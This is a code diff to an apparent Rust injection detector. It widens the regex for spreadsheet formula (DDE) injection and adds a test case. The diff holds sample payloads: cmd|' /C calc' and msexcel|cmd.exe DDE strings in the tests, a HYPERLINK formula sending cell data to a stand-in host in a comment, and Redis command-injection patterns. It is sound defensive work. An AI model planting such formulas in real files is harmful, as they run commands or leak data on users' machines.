@@ -412,11 +412,12 @@ impl Rce {
                 RCE_REDIS,
                 r"(?:^|[\r\n/])\s*(?:config\s*[\s/]\s*set\s*[\s/]\s*(?:dir|dbfilename)\b|(?:slaveof|replicaof)\s*[\s/]\s*[0-9a-z]+[.:]|module\s*[\s/]\s*load\s*[\s/][^\s]*\.so\b)",
             ),
-            // Spreadsheet formulas at the start of a cell: DDE (`=cmd|' /C calc'!A0`), and a
+            // Spreadsheet formulas at the start of a cell: DDE (`=cmd|' /C calc'!A0`, also
+            // after a long expression, as far as the cell goes), and a
             // URL built from other cells (`=HYPERLINK("http://x/?"&A1, ...)`).
             (
                 RCE_FORMULA,
-                r#"(?:^|[\n,;\t\x22])\s*[=+@-][^\n,\x22|]{0,40}?\b[a-z0-9_.]+\s*\|\s*'[^']*'\s*!|(?:^|[\n,;\t\x22])\s*[=+@-]\s*(?:hyperlink|importxml|importdata|importhtml|importfeed|image|webservice)\s*\(\s*['\x22]https?://[^'\x22]*['\x22]\s*&"#,
+                r#"(?:^|[\n,;\t\x22])\s*[=+@-][^\n,\x22|]{0,200}?\b[a-z0-9_.]+\s*\|\s*'[^']*'\s*!|(?:^|[\n,;\t\x22])\s*[=+@-]\s*(?:hyperlink|importxml|importdata|importhtml|importfeed|image|webservice)\s*\(\s*['\x22]https?://[^'\x22]*['\x22]\s*&"#,
             ),
             (
                 RCE_SSTI,
@@ -2143,6 +2144,10 @@ mod tests {
             ),
             ("file-content:file", "a,\"+thisrow:=cmd|'/c notepad'!A1\""),
             ("file-content:file", "a,\"-2+3+cmd|' /C calc'!A0\""),
+            (
+                "json:/note",
+                "=SUM(A1:A9)+AVERAGE(B1:B9)*ROUND(C1/3)-MAX(D1:D9)+MIN(E1:E9)+msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!A1",
+            ),
         ] {
             assert!(hits(Kind::Value, label, v, 1).contains(&RCE_FORMULA), "{v}");
         }
